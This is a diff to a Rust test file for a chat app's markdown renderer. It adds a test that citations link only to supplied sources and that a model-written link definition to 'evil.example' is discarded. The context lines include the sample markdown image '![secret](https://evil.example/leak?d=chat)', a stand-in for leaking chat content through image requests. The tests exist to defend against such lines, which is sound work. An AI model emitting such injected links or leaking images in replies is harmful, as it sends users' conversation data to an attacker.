@@ -199,6 +199,55 @@ fn unsafe_links_become_text_and_safe_ones_open_safely() {
 }
 
 #[test]
+fn a_citation_links_to_its_source_only_when_the_reply_has_one_of_that_number() {
+    use crate::chat::source::{Source, reference_definitions};
+    let sources = vec![
+        Source {
+            url: "https://a.example/page".into(),
+            title: "A \"quoted\" <title>".into(),
+        },
+        Source {
+            url: "https://b.example/".into(),
+            title: String::new(),
+        },
+    ];
+    let text = "Cats sleep [1][2]. Dogs bark [3]. `arr[1]` stays.\n\n```\nx[2]\n```\n\n\
+                [1]: https://evil.example/\n";
+    let out = html(&format!("{}{text}", reference_definitions(&sources)));
+    assert!(
+        out.contains(
+            "<a class=\"citation\" href=\"https://a.example/page\" \
+             title=\"A &quot;quoted&quot; &lt;title&gt;\" target=\"_blank\" \
+             rel=\"noopener noreferrer nofollow\">1</a>"
+        ),
+        "{out}"
+    );
+    // `[1][2]` is two citations, not a link to 2 reading "1".
+    assert!(
+        out.contains(
+            "nofollow\">1</a><a class=\"citation\" href=\"https://b.example/\" \
+             title=\"b.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">2</a>."
+        ),
+        "{out}"
+    );
+    // A pair of which one number has no source stays as CommonMark reads it.
+    let one = html(&format!("{}See [1][5].\n", reference_definitions(&sources)));
+    assert!(!one.contains("class=\"citation\""), "{one}");
+    // No source 3: text. Code: text. The model's own definition of [1] comes second and
+    // loses.
+    assert!(out.contains("Dogs bark [3]."), "{out}");
+    assert!(out.contains("<code>arr[1]</code>"), "{out}");
+    assert!(out.contains("x[2]"), "{out}");
+    assert!(!out.contains("evil.example"), "{out}");
+    // Without sources nothing is a link, and an ordinary reference link is no citation.
+    let plain = html(text);
+    assert!(!plain.contains("class=\"citation\""), "{plain}");
+    let named = html("See [docs].\n\n[docs]: https://d.example/\n");
+    assert!(named.contains("<a href=\"https://d.example/\""), "{named}");
+    assert!(!named.contains("citation"), "{named}");
+}
+
+#[test]
 fn remote_images_are_links_and_inline_raster_images_load() {
     let out = html("![secret](https://evil.example/leak?d=chat)");
     assert!(
